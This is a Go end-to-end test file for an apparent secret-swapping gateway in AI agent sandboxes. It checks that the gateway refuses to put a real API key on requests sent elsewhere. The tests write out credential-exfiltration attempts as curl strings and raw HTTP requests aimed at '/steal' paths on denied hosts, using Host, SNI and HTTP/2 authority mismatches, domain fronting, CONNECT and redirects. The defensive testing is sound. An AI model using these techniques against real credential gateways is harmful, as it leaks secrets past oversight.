package attacks

import (
	"net/url"
	"strings"
	"testing"

	"github.com/standin/standin/e2e/harness"
)

// swapElsewhere: the agent tries to have the gateway write the real
// value into a request that goes somewhere else than the secret's host, or
// into another part of the request than the secret's auth slot.
func swapElsewhere(t *testing.T, ag *agent) {
	auth := `-H "Authorization: Bearer $API_KEY" `

	// Nothing may reach any upstream but what the attack expects.
	// TLS for the secret's host, Host naming another: refused before
	// anything is dialed, whether the other host is allowed or not.
	run(t, "swap/Host header naming another host", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		var args, what []string
		for _, host := range []string{deniedHost, otherHost} {
			for _, proto := range []string{"--http1.1", "--http2"} {
				args = append(args, proto+" https://"+apiHost+"/steal "+auth+"-H 'Host: "+host+"'")
				what = append(what, proto+" Host "+host)
			}
		}
		for i, cr := range curls(t, a, ag.name, args...) {
			a.want(cr.code == 0 && misdirected.matches(cr.resp), "%s: exit %d status %d %s, want %v",
				what[i], cr.code, cr.resp.status, cr.resp.body, misdirected)
		}
		untouched(a, mark)
	})

	// The TLS server name must be the name the sandbox resolved: the
	// flow closes before TLS is answered.
	run(t, "swap/SNI other than the destination", func(t *testing.T, a *attack) {
		mark, up := logMark(), harness.Srv.Up.Mark()
		cases := []struct{ sni, dest string }{{deniedHost, apiHost}, {otherHost, apiHost}, {apiHost, otherHost}}
		var args []string
		for _, c := range cases {
			args = append(args, "-k --connect-to "+c.sni+":443:"+c.dest+":443 https://"+c.sni+"/steal "+auth+"-H 'Host: "+c.sni+"'")
		}
		crs := curls(t, a, ag.name, args...)
		for i, c := range cases {
			cr := crs[i]
			a.want(cr.code == 35, "SNI %s to %s's address: exit %d %q, want 35 (flow closed)", c.sni, c.dest, cr.code, cr.err)
			a.want(flowRefused(mark, ag.name, c.dest, reasonSNIMismatch), "no %q refusal for SNI %s to %s:%s", reasonSNIMismatch, c.sni, c.dest, flowRefusals(mark, ag.name))
		}
		untouched(a, up)
	})

	// SNI of a host the rules allow but that has no secret, Host of the
	// secret's host: the flow is spliced, never opened, so no swap. The
	// upstream gets the stand-in.
	run(t, "swap/fronting through a spliced host", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		cr := curl(t, a, ag.name, "-k --http1.1 https://"+otherHost+"/front "+auth+"-H 'Host: "+apiHost+"'")
		a.want(cr.code == 0 && cr.resp.status == 200, "curl: exit %d status %d %q", cr.code, cr.resp.status, cr.err)
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, "")
		a.want(len(got) == 1 && got[0].Header.Get("Authorization") == "Bearer "+ag.apiStandIn,
			"upstream got %v, want one request carrying the stand-in as it was", got)
	})

	run(t, "swap/HTTP/2 authority other than SNI", func(t *testing.T, a *attack) {
		bin := ag.attacker(t)
		mark := harness.Srv.Up.Mark()
		for _, authority := range []string{deniedHost, otherHost, deniedHost + ":443"} {
			r := harness.Exec(t, ag.name, bin, "h2", "-addr", apiHost+":443", "-sni", apiHost, "-authority", authority,
				"-path", "/steal", "-header", "authorization: Bearer $API_KEY")
			a.sandboxSaw(r)
			a.want(r.Code == 0 && strings.Contains(r.Stdout, "alpn: h2\nheader: :status: 421\n") &&
				strings.Contains(r.Stdout, "header: x-standin-error: host_mismatch\n") && strings.Contains(r.Stdout, reasonHostMismatch),
				":authority %s with SNI %s: exit %d, want 421 host_mismatch:\n%s", authority, apiHost, r.Code, r.Output())
		}
		// :authority of the secret's host and a host field naming
		// another: the request goes to the TLS name or nowhere.
		r := harness.Exec(t, ag.name, bin, "h2", "-addr", apiHost+":443", "-sni", apiHost, "-authority", apiHost,
			"-path", "/two-authorities", "-header", "host: "+deniedHost, "-header", "authorization: Bearer $API_KEY")
		a.sandboxSaw(r)
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, apiHost)
		for _, req := range got {
			a.want(req.Host == apiHost && req.Path == "/two-authorities", "upstream got %v, want only %s/two-authorities", req, apiHost)
		}
		a.want(r.Code == 0 && strings.Contains(r.Stdout, "header: :status: 200\n") && strings.HasSuffix(r.Stdout, "body: api ok\n\n"),
			":authority %s with a host field %s: exit %d, want 200 from %s:\n%s", apiHost, deniedHost, r.Code, apiHost, r.Output())
	})

	run(t, "swap/absolute URI naming another host", func(t *testing.T, a *attack) {
		targetsRefused(t, a, ag, misdirected,
			"https://"+deniedHost+"/steal", "https://"+otherHost+"/steal", "http://"+deniedHost+":443/steal")
	})

	// An opaque target has no host for Go's parser to check against Host,
	// yet an HTTP/1.1 upstream must take it as an absolute-form target,
	// over Host: the real value would go to the host it names.
	run(t, "swap/opaque request target naming another host", func(t *testing.T, a *attack) {
		targetsRefused(t, a, ag, refusal{400, "bad_request", reasonTarget},
			"x:https://"+deniedHost+"/steal", "x:https://"+otherHost+"/steal", "mailto:"+deniedHost)
	})

	run(t, "swap/CONNECT inside the tunnel", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		want := refusal{405, "bad_request", reasonConnect}
		targets := []string{deniedHost + ":443", apiHost + ":443"}
		var reqs []string
		for _, target := range targets {
			reqs = append(reqs, "CONNECT "+target+" HTTP/1.1\r\nHost: "+target+"\r\nAuthorization: Bearer "+ag.apiStandIn+"\r\nConnection: close\r\n\r\n")
		}
		for i, raw := range rawTLS(t, a, ag.name, apiHost, "443", apiHost, false, reqs...) {
			rs := parseResponses(t, raw)
			a.want(len(rs) == 1 && want.matches(rs[0]), "CONNECT %s: got %v %q, want %v", targets[i], statuses(rs), raw, want)
		}
		untouched(a, mark)
	})

	// A host the rules allow but the secret does not name: the flow is
	// spliced and the stand-in arrives as it is.
	run(t, "swap/stand-in to a host without the secret", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		cr := curl(t, a, ag.name, "-k https://"+otherHost+"/v1/steal?key=$API_KEY "+auth+`-H "X-Api-Key: $API_KEY"`)
		a.want(cr.code == 0 && string(cr.resp.body) == `other got Authorization="Bearer `+ag.apiStandIn+`"`+"\n",
			"curl: exit %d %q, want the echo of the stand-in", cr.code, cr.resp.body)
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, "")
		a.want(len(got) == 1 && got[0].Host == otherHost && got[0].Header.Get("Authorization") == "Bearer "+ag.apiStandIn &&
			got[0].Header.Get("X-Api-Key") == ag.apiStandIn && got[0].Path == "/v1/steal?key="+ag.apiStandIn,
			"upstream got %v, want one request to %s with the stand-in in each place", got, otherHost)
	})

	// bHost has a secret of the same sandbox; API_KEY's stand-in in its
	// slot is refused, never sent.
	run(t, "swap/stand-in in another secret's slot", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		cr := curl(t, a, ag.name, "https://"+bHost+"/v1/steal "+auth)
		a.want(cr.code == 0 && revoked.matches(cr.resp), "curl: exit %d status %d %s, want %v", cr.code, cr.resp.status, cr.resp.body, revoked)
		untouched(a, mark)
	})

	// The value goes into the slot and nowhere else: a stand-in in the
	// body, the query or another header of the secret's own host arrives
	// as it was.
	run(t, "swap/stand-in outside the slot", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		base := "https://" + apiHost + "/v1/things?api_key=$API_KEY " + `-H "X-Other: $API_KEY" --data "key=$API_KEY"`
		slots := []bool{true, false}
		crs := curls(t, a, ag.name, base+" "+auth, base)
		// One request each, in order: each curl ends before the next.
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, apiHost)
		if len(got) != len(slots) {
			t.Fatalf("upstream got %v, want %d requests", got, len(slots))
		}
		for i, slot := range slots {
			cr := crs[i]
			a.want(cr.code == 0 && cr.resp.status == 200, "curl (slot %v): exit %d status %d", slot, cr.code, cr.resp.status)
			wantAuth := ""
			if slot {
				wantAuth = "Bearer " + ag.apiReal
			}
			r := got[i]
			a.want(r.Header.Get("Authorization") == wantAuth, "slot %v: Authorization upstream is not %s", slot, map[bool]string{true: "the real value", false: "absent"}[slot])
			a.want(r.Header.Get("X-Other") == ag.apiStandIn && string(r.Body) == "key="+ag.apiStandIn && r.Path == "/v1/things?api_key="+url.QueryEscape(ag.apiStandIn),
				"slot %v: upstream got X-Other %q, body %q, path %q, want the stand-in in each", slot, r.Header.Get("X-Other"), r.Body, r.Path)
		}
	})

	run(t, "swap/plain HTTP to the secret's host", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		want := refusal{403, "blocked", reasonPlainHTTP}
		cr := curl(t, a, ag.name, "http://"+apiHost+"/v1/steal "+auth)
		a.want(cr.code == 0 && want.matches(cr.resp), "curl: exit %d status %d %s, want %v", cr.code, cr.resp.status, cr.resp.body, want)
		untouched(a, mark)
	})

	// The secret's host redirects to another host; the client follows and
	// sends its credential header along (curl --location-trusted): the
	// other host gets the stand-in.
	run(t, "swap/redirect to another host", func(t *testing.T, a *attack) {
		mark := harness.Srv.Up.Mark()
		cr := curl(t, a, ag.name, "-k -L --location-trusted https://"+apiHost+"/redirect "+auth)
		a.want(cr.code == 0 && string(cr.resp.body) == `other got Authorization="Bearer `+ag.apiStandIn+`"`+"\n",
			"curl -L: exit %d %q, want the other host's echo of the stand-in", cr.code, cr.resp.body)
		got := harness.Srv.Up.Since(mark, "")
		a.upstream(got, apiHost)
		a.want(len(got) == 2 && got[0].Host == apiHost && got[0].Header.Get("Authorization") == "Bearer "+ag.apiReal &&
			got[1].Host == otherHost && got[1].Header.Get("Authorization") == "Bearer "+ag.apiStandIn,
			"upstream got %v, want the real value on %s, then the stand-in on %s", got, apiHost, otherHost)
	})
}

// targetsRefused sends, on a TLS flow to apiHost, one GET per request
// target with the agent's stand-in and Host apiHost, and wants each
// refused with want and no upstream reached.
func targetsRefused(t *testing.T, a *attack, ag *agent, want refusal, targets ...string) {
	t.Helper()
	mark := harness.Srv.Up.Mark()
	var reqs []string
	for _, target := range targets {
		reqs = append(reqs, "GET "+target+" HTTP/1.1\r\nHost: "+apiHost+"\r\nAuthorization: Bearer "+ag.apiStandIn+"\r\nConnection: close\r\n\r\n")
	}
	for i, raw := range rawTLS(t, a, ag.name, apiHost, "443", apiHost, false, reqs...) {
		rs := parseResponses(t, raw)
		a.want(len(rs) == 1 && want.matches(rs[0]), "GET %s: got %v %q, want %v", targets[i], statuses(rs), raw, want)
	}
	untouched(a, mark)
}

// untouched wants no upstream request since mark.
func untouched(a *attack, mark int) {
	a.t.Helper()
	got := harness.Srv.Up.Since(mark, "")
	a.upstream(got, apiHost)
	a.want(len(got) == 0, "upstream got %v, want nothing", got)
}
